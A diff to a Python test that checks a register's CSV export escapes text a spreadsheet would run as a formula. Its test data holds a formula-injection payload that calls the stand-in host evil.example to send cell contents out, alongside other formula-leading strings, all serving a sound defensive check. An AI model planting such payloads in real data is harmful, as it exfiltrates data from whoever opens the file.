@@ -243,11 +243,14 @@ def test_the_page_runs_no_script_whatever_a_link_holds_R_D4(demo_api: Api) -> No
         assert "script-src 'none'" in policy and "frame-ancestors 'none'" in policy
 
 
-def test_the_open_data_file_holds_no_formula_for_a_spreadsheet_to_run_R_P2(api: Api) -> None:
+def test_the_open_data_file_holds_no_formula_for_a_spreadsheet_to_run_R_P2(
+    backend_api: Api,
+) -> None:
     """The register's CSV opens in Excel (it starts with a BOM for it): an attack probe's case
     titled =HYPERLINK(…) came out as a live formula in a file anyone downloads. Text a
     spreadsheet reads as a formula (= + - @, or a tab or CR first) starts with an apostrophe,
     as the .xlsx registers write such text as text."""
+    api = backend_api  # on either store
     titles = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "@SUM(1+1)", "-2+3", "关于=的建议"]
     for n, title in enumerate(titles):
         case_id, reply_id = issued(api, f"+CSV-{n}", title=title)
